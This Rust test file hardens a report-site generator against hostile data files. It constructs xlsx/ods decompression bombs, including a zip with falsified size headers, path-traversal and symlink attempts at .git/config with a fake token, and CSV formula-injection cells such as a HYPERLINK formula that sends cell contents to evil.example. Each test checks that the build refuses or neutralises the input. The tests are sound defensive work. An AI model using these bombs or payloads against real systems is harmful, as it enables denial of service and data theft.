//! Hostile data files: workbooks that inflate to gigabytes, tables whose
//! loading grew with the square of their rows, schemas that name files
//! outside the content folder, and cells a spreadsheet would run as
//! formulas. See docs/hardening.md, "Data files".

use std::io::Write;
use std::time::{Duration, Instant};

use crate::harness::*;
use crate::hostile::{assert_time_near_linear, fails_fast, median_time};

// ---- workbooks that inflate beyond their size ----

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
const SHEET_TAIL: &str = "</sheetData></worksheet>";

/// An .xlsx file as Excel writes one, with a single sheet, `Data`, whose
/// rows `write_rows` writes (as XML, inside `<sheetData>`) straight into
/// the compressor, so a sheet of gigabytes needs no memory to make.
pub(crate) fn xlsx(write_rows: impl FnOnce(&mut dyn Write)) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let parts = [
        (
            "[Content_Types].xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        (
            "xl/workbook.xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
        ),
    ];
    for (name, text) in parts {
        zip.start_file(name, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    zip.write_all(SHEET_HEAD.as_bytes()).unwrap();
    write_rows(&mut zip);
    zip.write_all(SHEET_TAIL.as_bytes()).unwrap();
    zip.finish().unwrap().into_inner()
}

/// A text cell.
fn inline(at: &str, text: &str) -> String {
    format!(r#"<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>"#)
}

/// A site whose table `t` is read from `content/sample/data/t.xlsx`, sheet
/// `Data`; the workbook's `file:` is at line 3, column 9, its sheet at line
/// 4, column 10.
fn workbook_site(xlsx: &[u8]) -> TestSite {
    workbook_site_named("t.xlsx", xlsx)
}

fn workbook_site_named(name: &str, bytes: &[u8]) -> TestSite {
    let site = TestSite::fixture("fixtures/full");
    site.write(
        "content/sample/data/t.yaml",
        &format!("caption: T\nworkbook:\n  file: {name}\n  sheet: Data\ncolumns:\n  - key: part\n    label: Part\n"),
    );
    site.write(
        "content/sample/04-t.md",
        "---\ntitle: T\n---\n\n> [!TABLE] t\n",
    );
    std::fs::write(site.dir.join("content/sample/data").join(name), bytes).unwrap();
    site
}

/// An .ods as LibreOffice writes one, with a single sheet, `Data`, whose
/// `content.xml` rows are `rows`.
fn ods(rows: &str) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let deflated =
        SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("mimetype", stored).unwrap();
    zip.write_all(b"application/vnd.oasis.opendocument.spreadsheet")
        .unwrap();
    zip.start_file("META-INF/manifest.xml", deflated).unwrap();
    zip.write_all(br#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>"#).unwrap();
    zip.start_file("content.xml", deflated).unwrap();
    write!(
        zip,
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="Data">{rows}</table:table></office:spreadsheet></office:body></office:document-content>"#
    )
    .unwrap();
    zip.finish().unwrap().into_inner()
}

fn ods_text(text: &str) -> String {
    format!(
        r#"<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>"#
    )
}

/// The control for the .ods refusals: LibreOffice ends every row with the
/// empty columns to the sheet's edge, and the sheet with the empty rows to
/// its foot, each as one repeated cell; such a sheet reads.
#[test]
fn a_small_ods_repeating_empty_cells_to_the_sheet_edge_builds() {
    let edge = r#"<table:table-cell table:number-columns-repeated="16383"/>"#;
    let book = ods(&format!(
        r#"<table:table-row>{}{edge}</table:table-row><table:table-row>{}{edge}</table:table-row><table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>"#,
        ods_text("Part"),
        ods_text("Leeds")
    ));
    let run = workbook_site_named("t.ods", &book).build().success();
    let page = run.page("sample/t/index.html");
    assert_eq!(page.cells("figure.data-table tbody th"), ["Leeds"]);
}

/// calamine writes out every repeat of an .ods cell as it opens the file:
/// this file of a few hundred bytes asked it for a billion cells.
#[test]
fn ods_bomb_one_cell_repeated_a_billion_times_fails_fast() {
    let book = ods(&format!(
        r#"<table:table-row>{}</table:table-row><table:table-row><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="1000000000"/></table:table-row>"#,
        ods_text("Part")
    ));
    assert!(book.len() < 4096, "the bomb is {} bytes", book.len());
    let site = workbook_site_named("t.ods", &book);
    assert_workbook_refused(
        &site,
        "content/sample/data/t.yaml:4:10",
        "sheet `Data` spans more than 1,000,000 cells",
    );
}

/// A row of text repeated a million times beside a cell in column 1,000.
#[test]
fn ods_bomb_a_row_repeated_a_million_times_fails_fast() {
    let book = ods(&format!(
        r#"<table:table-row>{}</table:table-row><table:table-row table:number-rows-repeated="1000000">{}</table:table-row><table:table-row><table:table-cell table:number-columns-repeated="999"/>{}</table:table-row>"#,
        ods_text("Part"),
        ods_text("Leeds"),
        ods_text("far")
    ));
    let site = workbook_site_named("t.ods", &book);
    assert_workbook_refused(
        &site,
        "content/sample/data/t.yaml:4:10",
        "more than 1,000,000 cells",
    );
}

/// A workbook refused quickly, in bounded memory (see `fails_fast`), at
/// `at`, naming `what`, and leaving no output and no staging folder.
#[track_caller]
fn assert_workbook_refused(site: &TestSite, at: &str, what: &str) {
    let start = Instant::now();
    let run = fails_fast(site, at);
    let took = start.elapsed();
    assert!(took < Duration::from_secs(10), "took {took:?}");
    assert!(run.stderr.contains("bad-workbook"), "{}", run.stderr);
    assert!(run.stderr.contains(what), "{}", run.stderr);
    assert!(!run.output.exists(), "a failed build wrote output");
    let leftovers: Vec<_> = std::fs::read_dir(&site.dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("rapport-"))
        .collect();
    assert!(leftovers.is_empty(), "left behind: {leftovers:?}");
}

/// The control: a workbook made the same way, of ordinary size, builds, so
/// the refusals below are about size and nothing else.
#[test]
fn a_small_workbook_made_like_the_bombs_builds() {
    let book = xlsx(|w| {
        let rows = format!(
            r#"<row r="1">{}</row><row r="2">{}</row>"#,
            inline("A1", "Part"),
            inline("A2", "Leeds")
        );
        w.write_all(rows.as_bytes()).unwrap();
    });
    let run = workbook_site(&book).build().success();
    let page = run.page("sample/t/index.html");
    assert_eq!(page.cells("figure.data-table tbody th"), ["Leeds"]);
}

/// 256 MiB of text in one cell, from a file of a few hundred kilobytes.
pub(crate) fn one_huge_cell(w: &mut dyn Write) {
    write!(w, r#"<row r="1">{}</row><row r="2">"#, inline("A1", "Part")).unwrap();
    w.write_all(br#"<c r="A2" t="inlineStr"><is><t>"#).unwrap();
    let chunk = vec![b'A'; 1 << 20];
    for _ in 0..256 {
        w.write_all(&chunk).unwrap();
    }
    w.write_all(b"</t></is></c></row>").unwrap();
}

#[test]
fn xlsx_bomb_one_cell_inflating_to_256_mib_fails_fast() {
    let book = xlsx(one_huge_cell);
    assert!(book.len() < 2 << 20, "the bomb is {} bytes", book.len());
    let site = workbook_site(&book);
    assert_workbook_refused(&site, "content/sample/data/t.yaml:3:9", "t.xlsx");
}

/// Rewrites the size the archive declares for `name` unpacked, in its local
/// header and in its central directory, to `size`.
fn understate(zip: &mut [u8], name: &str, size: u32) {
    let name = name.as_bytes();
    let mut patched = 0;
    for i in 0..zip.len().saturating_sub(46) {
        let (len_at, name_at, size_at) = match &zip[i..i + 4] {
            b"PK\x03\x04" => (26, 30, 22),
            b"PK\x01\x02" => (28, 46, 24),
            _ => continue,
        };
        let len = u16::from_le_bytes([zip[i + len_at], zip[i + len_at + 1]]) as usize;
        if zip.get(i + name_at..i + name_at + len) == Some(name) {
            zip[i + size_at..i + size_at + 4].copy_from_slice(&size.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2, "the sheet's two headers");
}

#[test]
fn xlsx_bomb_understating_its_unpacked_size_fails_fast() {
    let mut book = xlsx(one_huge_cell);
    understate(&mut book, "xl/worksheets/sheet1.xml", 4096);
    let site = workbook_site(&book);
    assert_workbook_refused(&site, "content/sample/data/t.yaml:3:9", "t.xlsx");
}

#[test]
fn xlsx_with_cells_at_a1_and_xfd1048576_fails_fast() {
    // Two cells, 17 billion positions between them.
    let book = xlsx(|w| {
        let rows = format!(
            r#"<row r="1">{}</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#,
            inline("A1", "Part")
        );
        w.write_all(rows.as_bytes()).unwrap();
    });
    let site = workbook_site(&book);
    assert_workbook_refused(
        &site,
        "content/sample/data/t.yaml:4:10",
        "17,179,869,184 cells",
    );
}

#[test]
fn xlsx_sheet_of_more_than_a_million_cells_is_refused() {
    let book = xlsx(|w| {
        write!(w, r#"<row r="1">{}</row>"#, inline("A1", "Part")).unwrap();
        let row = "<c><v>1</v></c>".repeat(1000);
        for r in 2..=1002 {
            write!(w, r#"<row r="{r}">{row}</row>"#).unwrap();
        }
    });
    let site = workbook_site(&book);
    assert_workbook_refused(
        &site,
        "content/sample/data/t.yaml:4:10",
        "more than 1,000,000 cells",
    );
}

// ---- loading stays near-linear ----

/// What a report of [`big_site`] holds.
#[derive(Clone, Copy, PartialEq)]
enum Big {
    /// A table, published as open data.
    Table,
    /// The table, also placed in a chapter as a table and a chart.
    PlacedTable,
    /// A `recommendations.csv`.
    Items,
}

/// A report with `n` rows of `what`: a table with every kind of computed
/// column, subtotals (a group every ten rows), a total and a footnote; or
/// an action list.
fn big_site(n: usize, what: Big) -> rapport::vfs::MemoryFs {
    let mut fs = rapport::vfs::MemoryFs::new();
    fs.add("site.yaml", "title: T\norganisation: O\ngit_dates: false\n");
    fs.add(
        "content/r/report.yaml",
        "title: R\npublished: 2024-01-01\nsummary: S.\nperiod: 2023/24\n",
    );
    if what != Big::Items {
        fs.add(
            "content/r/data/t.yaml",
            "caption: T\nfile: t.csv\ncolumns:\n  - key: area\n  - key: region\n  - key: amount\n    type: money\n  - key: last\n    type: money\ncomputed:\n  - key: change\n    percent_change: {value: amount, baseline: last}\n  - key: way\n    direction: {value: amount, baseline: last}\n    good: up\n  - key: diff\n    difference: [amount, last]\n  - key: share\n    share: amount\n  - key: rank\n    rank: amount\ntotal:\n  columns: [amount, last]\nsubtotals:\n  by: region\n  columns: [amount]\nfootnotes:\n  - {row: area 3, column: amount, note: Estimated.}\n",
        );
        let mut csv = String::from("Area,Region,Amount,Last\n");
        for i in 0..n {
            csv.push_str(&format!(
                "Area {i},Region {},\"£{},{:03}\",{}\n",
                i / 10,
                i % 997 + 1,
                i % 1000,
                i * 7 % 1013
            ));
        }
        fs.add("content/r/data/t.csv", csv);
    }
    if what == Big::PlacedTable {
        fs.add(
            "content/r/01-t.md",
            "---\ntitle: Figures\n---\n\n> [!TABLE] t\n\n> [!CHART] t\n> column: amount\n",
        );
    } else {
        fs.add("content/r/01-t.md", "---\ntitle: Text\n---\n\nText.\n");
    }
    if what == Big::Items {
        let mut csv =
            String::from("Number,Title,Text,Theme,Lead,Status,Response date,Response text\n");
        for i in 1..=n {
            csv.push_str(&format!(
                "{i},\"Do thing {i}, well\",Do it.,Theme {},Lead {},in progress,2024-01,Begun.\n",
                i % 7,
                i % 5
            ));
        }
        fs.add("content/r/recommendations.csv", csv);
    }
    fs
}

fn options() -> rapport::build::BuildOptions {
    rapport::build::BuildOptions {
        no_pdf: true,
        no_search: true,
        ..Default::default()
    }
}

#[test]
fn data_tables_and_action_lists_load_in_near_linear_time() {
    // Each site builds cleanly, so what is timed is real work.
    for what in [Big::Table, Big::PlacedTable, Big::Items] {
        let outcome = rapport::build::render_in_memory(&big_site(100, what), &options());
        let problems: Vec<_> = outcome.diagnostics.iter().take(3).collect();
        assert!(problems.is_empty(), "{problems:?}");
    }
    // A table: loaded, computed and exported, from N rows to 8N.
    assert_time_near_linear("data table rows", 500, |n| {
        let fs = big_site(n, Big::Table);
        median_time(|| {
            std::hint::black_box(rapport::build::render_in_memory(&fs, &options()));
        })
    });
    // Placed in a chapter as a table and a chart, and rendered: up to the
    // 2,000 rows a chapter shows.
    assert_time_near_linear("placed table rows", 250, |n| {
        assert!(n <= 2_000, "measured past the 2,000 rows a chapter shows");
        let fs = big_site(n, Big::PlacedTable);
        median_time(|| {
            std::hint::black_box(rapport::build::render_in_memory(&fs, &options()));
        })
    });
    // An action list from a CSV export: loaded and exported (its pages,
    // one per item, are not rendered).
    assert_time_near_linear("recommendations.csv rows", 500, |n| {
        let fs = big_site(n, Big::Items);
        median_time(|| {
            std::hint::black_box(rapport::build::prepare_in_memory(&fs, &options()));
        })
    });
}

/// A table of `rows` rows (`Part`, one column), placed in a chapter by
/// `component`, at line 5 of `content/sample/04-t.md`.
fn long_table_site(rows: usize, component: &str) -> TestSite {
    let site = TestSite::fixture("fixtures/full");
    site.write(
        "content/sample/data/t.yaml",
        "caption: T\nfile: t.csv\ncolumns:\n  - key: part\n  - key: amount\n    type: money\n",
    );
    let mut csv = String::from("Part,Amount\n");
    for i in 0..rows {
        csv.push_str(&format!("Row {i},{i}\n"));
    }
    site.write("content/sample/data/t.csv", &csv);
    site.write(
        "content/sample/04-t.md",
        &format!("---\ntitle: T\n---\n\n{component}\n"),
    );
    site
}

#[test]
fn table_too_long_to_print_is_refused_where_it_is_placed() {
    for component in ["> [!TABLE] t", "> [!CHART] t\n> column: amount"] {
        let run = long_table_site(2_001, component).build();
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert!(
            run.stderr.contains("error[table-too-long]")
                && run.stderr.contains("content/sample/04-t.md:5:")
                && run.stderr.contains("2,001 rows"),
            "{}",
            run.stderr
        );
    }
    // The same table, two of its rows chosen, builds; and the whole table
    // is published as open data.
    let run = long_table_site(2_001, "> [!TABLE] t\n> rows: Row 7, Row 2000")
        .build()
        .success();
    let page = run.page("sample/t/index.html");
    assert_eq!(
        page.cells("figure.data-table tbody th"),
        ["Row 7", "Row 2000"]
    );
    let csv = std::fs::read_to_string(run.output.join("sample/data/t.csv")).unwrap();
    assert_eq!(csv.lines().count(), 2_002);
}

#[test]
fn csv_of_more_than_a_million_rows_is_refused() {
    let site = long_table_site(0, "Text.");
    let mut csv = String::with_capacity(4 << 20);
    csv.push_str("Part,Amount\n");
    for _ in 0..1_000_001 {
        csv.push_str("x,1\n");
    }
    site.write("content/sample/data/t.csv", &csv);
    let run = fails_fast(&site, "content/sample/data/t.csv:1000002:1");
    assert!(run.stderr.contains("table-too-long"), "{}", run.stderr);
    assert!(run.stderr.contains("1,000,000 rows"), "{}", run.stderr);
}

// ---- data only from inside the content folder ----

/// A site whose table `t` takes its figures from `source` (a `file:` line,
/// or a `workbook:` block), written at line 2 of `content/sample/data/t.yaml`.
fn table_site(source: &str) -> TestSite {
    let site = TestSite::fixture("fixtures/full");
    site.write(
        "content/sample/data/t.yaml",
        &format!("caption: T\n{source}\ncolumns:\n  - key: part\n    label: Part\n"),
    );
    site.write(
        "content/sample/04-t.md",
        "---\ntitle: T\n---\n\n> [!TABLE] t\n",
    );
    site
}

/// Refused with `code` at `at`, exit 1, and `secret` (in the refused file's
/// first line) nowhere: not in the log, not in the output.
#[track_caller]
fn assert_refused_unquoted(site: &TestSite, at: &str, code: &str, secret: &str) {
    let run = site.build();
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains(&format!("error[{code}]")) && run.stderr.contains(at),
        "no `{code}` at {at}:\n{}",
        run.stderr
    );
    assert!(!run.stderr.contains(secret), "quoted:\n{}", run.stderr);
    assert!(!run.stdout.contains(secret), "quoted:\n{}", run.stdout);
    for (path, bytes) in snapshot(&run.output) {
        assert!(
            !String::from_utf8_lossy(&bytes).contains(secret),
            "{path} holds the secret"
        );
    }
}

#[test]
fn data_table_reading_git_config_is_refused_without_quoting_it() {
    let site = table_site("file: ../../../.git/config");
    site.write(
        ".git/config",
        "[remote \"origin\"] url = https://deploy:GIT-SECRET-TOKEN@example.org/site.git\n\tfetch = +refs/heads/*\n",
    );
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "outside-site",
        "GIT-SECRET-TOKEN",
    );
}

#[test]
fn data_table_reading_site_yaml_is_refused_without_quoting_it() {
    let site = table_site("file: ../../../site.yaml");
    let config = std::fs::read_to_string(site.dir.join("site.yaml")).unwrap();
    site.write("site.yaml", &format!("# SITE-SECRET-NOTE\n{config}"));
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "outside-site",
        "SITE-SECRET-NOTE",
    );
}

#[test]
fn data_table_reading_a_theme_file_is_refused_without_quoting_it() {
    let site = table_site("file: ../../../themes/private/notes.csv");
    site.write("themes/private/notes.csv", "THEME-SECRET-NOTE,x\n1,2\n");
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "outside-site",
        "THEME-SECRET-NOTE",
    );
}

#[test]
fn workbook_outside_the_content_folder_is_refused() {
    let site = table_site("workbook:\n  file: ../../../.git/budget.xlsx\n  sheet: Data");
    let book = xlsx(|w| {
        let rows = format!(
            r#"<row r="1">{}</row><row r="2">{}</row>"#,
            inline("A1", "Part"),
            inline("A2", "GIT-SECRET-ROW")
        );
        w.write_all(rows.as_bytes()).unwrap();
    });
    std::fs::create_dir_all(site.dir.join(".git")).unwrap();
    std::fs::write(site.dir.join(".git/budget.xlsx"), book).unwrap();
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:3:9",
        "outside-site",
        "GIT-SECRET-ROW",
    );
}

#[test]
fn data_table_symlinked_to_git_config_inside_the_site_is_refused() {
    let site = table_site("file: t.csv");
    site.write(".git/config", "GIT-SECRET-TOKEN,x\n1,2\n");
    std::os::unix::fs::symlink(
        "../../../.git/config",
        site.dir.join("content/sample/data/t.csv"),
    )
    .unwrap();
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "outside-site",
        "GIT-SECRET-TOKEN",
    );
}

#[test]
fn data_table_reading_a_hidden_file_is_refused() {
    let site = table_site("file: .private.csv");
    site.write("content/sample/data/.private.csv", "HIDDEN-SECRET,x\n1,2\n");
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "outside-site",
        "HIDDEN-SECRET",
    );
}

#[test]
fn data_table_naming_a_text_file_is_refused_without_quoting_it() {
    let site = table_site("file: ../notes.txt");
    site.write("content/sample/notes.txt", "NOTES-FIRST-LINE\nmore\n");
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "bad-csv",
        "NOTES-FIRST-LINE",
    );
}

#[test]
fn data_table_naming_a_binary_file_is_refused_without_quoting_it() {
    let site = table_site("file: t.csv");
    site.write(
        "content/sample/data/t.csv",
        "BINARY-FIRST-LINE\0\0\u{1}\0,x\n\0\0\n",
    );
    assert_refused_unquoted(
        &site,
        "content/sample/data/t.yaml:2:7",
        "bad-csv",
        "BINARY-FIRST-LINE",
    );
}

// ---- no formulas in the open-data files ----

/// Cells a spreadsheet would run, and figures that must keep their value.
fn formula_site() -> TestSite {
    let site = TestSite::fixture("fixtures/full");
    site.write(
        "content/sample/recommendations.csv",
        "Number,Title,Theme,Lead,Status\n\
         1,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",+1+1,@SUM(A1),in progress\n\
         2,-2+3,\"\t=1+2\",\"\r=3+4\",not started\n\
         3,-1200,Plain theme,Plain lead,not started\n",
    );
    site.write(
        "content/sample/data/f.yaml",
        "caption: F\nfile: f.csv\ncolumns:\n  - key: part\n  - key: note\n  - key: amount\n    type: money\n  - key: rate\n    type: decimal\nfootnotes:\n  - {row: leeds, column: amount, note: Estimated.}\n",
    );
    site.write(
        "content/sample/data/f.csv",
        "Part,Note,Amount,Rate\n\
         Leeds,\"=HYPERLINK(\"\"https://evil.example/\"\",\"\"x\"\")\",-1200,-12.5\n\
         +1+1,@SUM(A1),\"(1,200)\",0.5\n\
         -2+3,-12.5,\"£3,370,000\",-0.25\n",
    );
    site.write(
        "content/sample/04-f.md",
        "---\ntitle: F\n---\n\n> [!TABLE] f\n",
    );
    site
}

fn read_csv(path: &std::path::Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// No cell starts as a formula would, unless it is a plain number.
#[track_caller]
fn assert_no_formula(rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        let number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E', 'i', 'n', 'N']);
        assert!(
            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would run {cell:?}"
        );
    }
}

#[test]
fn formulas_in_open_data_csv_files_are_neutralised_and_figures_kept() {
    let run = formula_site().build().success();

    let items = read_csv(&run.output.join("sample/recommendations.csv"));
    assert_no_formula(&items);
    assert_eq!(
        items[1][1],
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(items[1][2], "'+1+1");
    assert_eq!(items[1][3], "'@SUM(A1)");
    assert_eq!(items[2][1], "'-2+3");
    // The tab and the carriage return are trimmed as the CSV is read; what
    // follows is still quoted.
    assert!(items[2][2].starts_with('\''), "{:?}", items[2][2]);
    assert!(items[2][3].starts_with('\''), "{:?}", items[2][3]);
    // A title that is a number stays a number.
    assert_eq!(items[3][1], "-1200");

    let table = read_csv(&run.output.join("sample/data/f.csv"));
    assert_no_formula(&table);
    assert_eq!(table[0], ["part", "note", "amount", "rate"]);
    assert_eq!(
        table[1],
        [
            "Leeds",
            "'=HYPERLINK(\"https://evil.example/\",\"x\")",
            "-1200",
            "-12.5"
        ]
    );
    assert_eq!(table[2], ["'+1+1", "'@SUM(A1)", "-1200", "0.5"]);
    assert_eq!(table[3], ["'-2+3", "-12.5", "3370000", "-0.25"]);
}

#[test]
fn open_data_json_keeps_text_as_written_and_figures_as_numbers() {
    let run = formula_site().build().success();
    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(run.output.join("sample/data/f.json")).unwrap(),
    )
    .unwrap();
    let rows = &json["rows"];
    // JSON is read by programs, not run: text is kept exactly.
    assert_eq!(
        rows[0]["note"],
        "=HYPERLINK(\"https://evil.example/\",\"x\")"
    );
    assert_eq!(rows[1]["part"], "+1+1");
    // Figures are numbers, negative ones included, and a figure with a
    // footnote (Leeds' amount) is still a number.
    assert_eq!(rows[0]["amount"], serde_json::json!(-1200));
    assert_eq!(rows[0]["rate"], serde_json::json!(-12.5));
    assert_eq!(rows[1]["amount"], serde_json::json!(-1200));
    assert_eq!(rows[2]["amount"], serde_json::json!(3370000));
}
